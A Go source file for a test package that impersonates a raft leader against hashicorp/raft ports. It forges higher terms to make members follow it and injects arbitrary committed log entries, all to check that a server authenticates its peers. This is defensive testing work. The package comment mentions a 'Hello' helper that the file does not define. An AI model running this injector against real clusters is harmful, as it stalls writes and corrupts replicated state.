// Package raftinject attacks a raft port the way an outsider who can reach
// it would, for tests that prove peers are authenticated. It speaks
// hashicorp/raft's NetworkTransport protocol (raft's own client code over
// TCP, optionally TLS with whatever certificate the test hands it) and
// claims to be a leader with a higher term: a member that believes it stops
// following the real leader (writes stall), and one that accepts its
// AppendEntries applies whatever entry the attacker chose.
//
// Hello is the flooding attacker's unit instead: one TLS handshake from a
// chosen source address, telling a server that answered (and signed) from
// one that reset the connection at accept.
//
// It is not a _test file so that tests of other packages (internal/server)
// can aim it at a full server.
package raftinject

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"
)

// Options configure an Injector.
type Options struct {
	// TLS, when set, wraps every connection in TLS with this config (give
	// it a certificate to try one). Nil: plain TCP.
	TLS *tls.Config
	// ID is the server ID the attacker claims; default "raftinject".
	ID string
	// Timeout bounds one RPC, dial and handshake included; default 1s.
	Timeout time.Duration
	// Interval paces the rounds of Attack; default 50ms, well under the
	// election timeouts raft uses, so followers never miss their "leader".
	Interval time.Duration
}

// Injector is a raft client with a forged leader identity. Close it.
type Injector struct {
	opts  Options
	layer *dialer
	trans *raft.NetworkTransport
}

// New returns an injector; it listens nowhere.
func New(o Options) *Injector {
	if o.ID == "" {
		o.ID = "raftinject"
	}
	if o.Timeout <= 0 {
		o.Timeout = time.Second
	}
	if o.Interval <= 0 {
		o.Interval = 50 * time.Millisecond
	}
	d := &dialer{tls: o.TLS, closed: make(chan struct{})}
	t := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
		Stream:  d,
		MaxPool: 1,
		Timeout: o.Timeout,
		Logger:  hclog.NewNullLogger(),
	})
	return &Injector{opts: o, layer: d, trans: t}
}

// Close drops the injector's connections.
func (in *Injector) Close() error {
	in.trans.CloseStreams()
	return in.trans.Close()
}

func (in *Injector) header() raft.RPCHeader {
	return raft.RPCHeader{
		ProtocolVersion: raft.ProtocolVersionMax,
		ID:              []byte(in.opts.ID),
		Addr:            []byte("raftinject.invalid:1"),
	}
}

// Heartbeat sends an empty AppendEntries in term: with term 0 it only
// learns the target's term and last index; with a higher term than the
// target's, the target adopts it and follows the injector.
func (in *Injector) Heartbeat(target string, term uint64) (*raft.AppendEntriesResponse, error) {
	req := &raft.AppendEntriesRequest{RPCHeader: in.header(), Term: term}
	var resp raft.AppendEntriesResponse
	if err := in.trans.AppendEntries(raft.ServerID(in.opts.ID), raft.ServerAddress(target), req, &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// Append sends data as a command entry at index after+1 in term, and a
// commit index that covers it, so a target that accepts it applies it to
// its state machine at once. PrevLogEntry is left 0: raft then skips its
// consistency check, so the attacker needs only the target's last index.
func (in *Injector) Append(target string, term, after uint64, data []byte) (*raft.AppendEntriesResponse, error) {
	req := &raft.AppendEntriesRequest{
		RPCHeader: in.header(),
		Term:      term,
		Entries: []*raft.Log{{
			Index:      after + 1,
			Term:       term,
			Type:       raft.LogCommand,
			Data:       data,
			AppendedAt: time.Now(),
		}},
		LeaderCommitIndex: after + 1,
	}
	var resp raft.AppendEntriesResponse
	if err := in.trans.AppendEntries(raft.ServerID(in.opts.ID), raft.ServerAddress(target), req, &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// Report sums up an Attack.
type Report struct {
	// RPCs sent, answered with Success, and failed (no answer).
	RPCs, Accepted, Errors int
	// LastErr is the newest RPC error.
	LastErr error
	// Term is the highest term the attacker claimed and a target accepted.
	Term uint64
	// Appended lists the targets that accepted the injected entry, and at
	// which index.
	Appended map[string]uint64
}

func (r Report) String() string {
	return fmt.Sprintf("%d RPCs, %d accepted, %d failed (last error: %v), term %d, entry appended on %v", r.RPCs, r.Accepted, r.Errors, r.LastErr, r.Term, r.Appended)
}

// Attack plays leader to every target until ctx ends: it bumps the term
// above the highest one any target reports, heartbeats in that term every
// Interval, and, once every target follows it, appends entry (when not
// nil) on each. It returns what the targets let it do.
func (in *Injector) Attack(ctx context.Context, targets []string, entry []byte) Report {
	rep := Report{Appended: map[string]uint64{}}
	var term uint64 // 0 probes
	t := time.NewTicker(in.opts.Interval)
	defer t.Stop()
	for {
		following := 0
		lastLog := map[string]uint64{}
		for _, target := range targets {
			rep.RPCs++
			resp, err := in.Heartbeat(target, term)
			if err != nil {
				rep.Errors++
				rep.LastErr = err
				continue
			}
			if resp.Success {
				rep.Accepted++
				following++
				lastLog[target] = resp.LastLog
				rep.Term = term
			} else if resp.Term >= term {
				term = resp.Term + 1
			}
		}
		if entry != nil && following == len(targets) {
			for _, target := range targets {
				if _, done := rep.Appended[target]; done {
					continue
				}
				rep.RPCs++
				resp, err := in.Append(target, term, lastLog[target], entry)
				switch {
				case err != nil:
					rep.Errors++
					rep.LastErr = err
				case resp.Success:
					rep.Accepted++
					rep.Appended[target] = lastLog[target] + 1
				}
			}
		}
		select {
		case <-ctx.Done():
			return rep
		case <-t.C:
		}
	}
}

// dialer is the client half of a raft.StreamLayer: raft's transport also
// accepts connections, which the injector never does.
type dialer struct {
	tls       *tls.Config
	closeOnce sync.Once
	closed    chan struct{}
}

func (d *dialer) Dial(address raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	nd := &net.Dialer{}
	if d.tls == nil {
		return nd.DialContext(ctx, "tcp", string(address))
	}
	td := &tls.Dialer{NetDialer: nd, Config: d.tls}
	return td.DialContext(ctx, "tcp", string(address))
}

func (d *dialer) Accept() (net.Conn, error) {
	<-d.closed
	return nil, net.ErrClosed
}

func (d *dialer) Close() error {
	d.closeOnce.Do(func() { close(d.closed) })
	return nil
}

func (d *dialer) Addr() net.Addr { return injectorAddr{} }

type injectorAddr struct{}

func (injectorAddr) Network() string { return "tcp" }
func (injectorAddr) String() string  { return "raftinject.invalid:1" }

// AttackEach runs one injector per named TLS config (nil: plain TCP) against
// targets at once, for as long as ctx lasts, and returns each one's report.
// opts.TLS is ignored: each attacker uses its own.
func AttackEach(ctx context.Context, attackers map[string]*tls.Config, opts Options, targets []string, entry []byte) map[string]Report {
	var mu sync.Mutex
	var wg sync.WaitGroup
	reports := make(map[string]Report, len(attackers))
	for name, cfg := range attackers {
		wg.Go(func() {
			o := opts
			o.TLS = cfg
			in := New(o)
			defer in.Close()
			r := in.Attack(ctx, targets, entry)
			mu.Lock()
			reports[name] = r
			mu.Unlock()
		})
	}
	wg.Wait()
	return reports
}
